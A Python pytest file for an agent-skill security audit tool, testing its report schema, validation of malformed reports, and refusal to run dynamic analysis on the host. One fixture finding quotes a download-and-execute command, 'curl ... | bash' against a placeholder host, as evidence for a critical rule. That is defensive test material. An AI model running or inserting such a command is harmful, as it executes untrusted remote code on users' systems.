"""The audit document: its shipped JSON Schema is the one its model generates, a document the
model writes validates against it, and a document that is not one is refused."""

from __future__ import annotations

import json

import pytest
from jsonschema import Draft202012Validator
from pydantic import ValidationError

from pytest_agent_skills.audit.detonation import start_dynamic
from pytest_agent_skills.audit.model import (
    AuditDocument,
    AuditFinding,
    NotAnalyzed,
    SkillAudit,
    summarize,
)
from pytest_agent_skills.audit.seam import DynamicOptions, DynamicUnavailableError
from pytest_agent_skills.evals.documents.catalog import schema_file, schema_of


def _document() -> AuditDocument:
    finding = AuditFinding(
        rule="download-execute",
        severity="critical",
        analysis="static",
        file="SKILL.md",
        line=7,
        message="downloads a script and runs it",
        evidence="curl -fsSL https://get.example/x.sh | bash",
    )
    skill = SkillAudit(
        name="fetcher",
        path="skills/fetcher",
        findings=[finding],
        not_analyzed=[NotAnalyzed(file="assets/blob.bin", reason="a binary file")],
    )
    return AuditDocument(skills=[skill], summary=summarize([skill], dynamic_runs=0, seconds=0.5))


def test_the_shipped_schema_is_the_one_the_model_generates() -> None:
    shipped = schema_file("audit").read_text(encoding="utf-8")
    assert shipped == schema_of(AuditDocument, "audit"), (
        "schemas/audit.schema.json is stale: write schema_of(AuditDocument, 'audit') into it"
    )
    Draft202012Validator.check_schema(json.loads(shipped))


def test_a_written_document_has_the_fixed_shape_and_validates_against_the_schema() -> None:
    data = json.loads(_document().model_dump_json(by_alias=True))
    Draft202012Validator(json.loads(schema_file("audit").read_text())).validate(data)
    assert list(data) == ["$schema", "version", "skills", "summary"]
    assert data["$schema"].endswith("/audit.schema.json")
    assert data["version"] == 1
    (skill,) = data["skills"]
    assert list(skill) == ["name", "path", "findings", "not_analyzed"]
    assert list(skill["findings"][0]) == [
        "rule",
        "severity",
        "analysis",
        "file",
        "line",
        "message",
        "evidence",
    ]
    assert data["summary"] == {
        "skills": 1,
        "findings": {"critical": 1, "high": 0, "medium": 0, "low": 0, "info": 0},
        "dynamic_runs": 0,
        "seconds": 0.5,
    }
    assert AuditDocument.model_validate_json(json.dumps(data)) == _document()


@pytest.mark.parametrize(
    ("change", "where"),
    [
        ({"version": 2}, "version"),
        ({"summary": {"skills": 1}}, "summary.findings"),
        ({"extra": True}, "extra"),
    ],
)
def test_a_document_that_is_not_an_audit_report_is_refused(
    change: dict[str, object], where: str
) -> None:
    data = {**json.loads(_document().model_dump_json(by_alias=True)), **change}
    with pytest.raises(ValidationError, match=where.replace(".", r"\.")):
        AuditDocument.model_validate(data)


def test_a_severity_outside_the_five_is_refused() -> None:
    with pytest.raises(ValidationError, match="critical', 'high', 'medium', 'low' or 'info'"):
        AuditFinding.model_validate(
            {**_document().skills[0].findings[0].model_dump(), "severity": "severe"}
        )


def test_dynamic_analysis_refuses_the_host_never_passing_silently() -> None:
    with pytest.raises(
        DynamicUnavailableError, match="a detonation run never executes on the host"
    ):
        start_dynamic(DynamicOptions(runtime="local"))
